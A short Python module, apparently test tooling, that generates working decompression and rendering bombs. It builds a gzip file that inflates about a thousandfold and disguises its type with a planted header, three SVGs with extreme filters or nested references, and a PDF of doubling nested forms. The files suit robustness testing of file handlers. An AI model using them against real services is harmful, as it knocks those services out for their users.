"""Files that attack what reads them."""

from __future__ import annotations

import io
import struct
import zlib

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject


def gzip_bomb(inside: bytes, expanded: int = 128 << 20) -> bytes:
    """A valid gzip file of about a thousandth of its `expanded` size (bytes), with `inside` (at most 65,531 bytes) in its extra field.

    Who looks for a header in the first kilobyte finds that of `inside`.
    """
    field = b"DR" + struct.pack("<H", len(inside)) + inside
    head = b"\x1f\x8b\x08\x04" + bytes(5) + b"\xff" + struct.pack("<H", len(field)) + field
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    checksum, parts = 0, []
    for start in range(0, expanded, 1 << 20):
        block = bytes(min(1 << 20, expanded - start))
        checksum = zlib.crc32(block, checksum)
        parts.append(deflate.compress(block))
    return b"".join([head, *parts, deflate.flush(), struct.pack("<II", checksum, expanded & 0xFFFFFFFF)])


def _drawing(width: int, height: int, content: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}">{content}</svg>'.encode()


def _doubled(levels: int) -> str:
    """A circle, in groups that each refer to the one before ten times."""
    groups = (f'<g id="g{level}">' + f'<use href="#g{level - 1}"/>' * 10 + "</g>" for level in range(1, levels))
    return '<circle id="g0" r="50"/>' + "".join(groups)


SVG_BOMBS = {
    "blurs": _drawing(
        5000,
        5000,
        '<filter id="f" x="-500%" y="-500%" width="9999%" height="9999%">'
        + '<feGaussianBlur stdDeviation="1000"/>' * 9
        + '</filter><rect width="5000" height="5000" filter="url(#f)"/>',
    ),
    "references": _drawing(500, 500, _doubled(7)),
    "noise": _drawing(
        5000,
        5000,
        '<filter id="f"><feTurbulence baseFrequency="0.5" numOctaves="100"/></filter><rect width="5000" height="5000" filter="url(#f)"/>',
    ),
}
"""Small drawings that take minutes or hours to draw."""


def pdf_bomb(levels: int = 26) -> bytes:
    """A page of 5 kB whose form draws another one twice, which draws another one twice: hours for who draws them all."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 300)
    box, content = ArrayObject(map(NumberObject, (0, 0, 300, 300))), b"0 0 10 10 re f"
    resources = DictionaryObject()
    for _ in range(levels):
        form = StreamObject()
        form.set_data(content)
        form.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form")})
        form.update({NameObject("/BBox"): box, NameObject("/Resources"): resources})
        inner = DictionaryObject({NameObject("/A"): writer._add_object(form)})
        resources, content = DictionaryObject({NameObject("/XObject"): inner}), b"/A Do /A Do"
    drawing = StreamObject()
    drawing.set_data(content)
    page[NameObject("/Contents")], page[NameObject("/Resources")] = writer._add_object(drawing), resources
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()
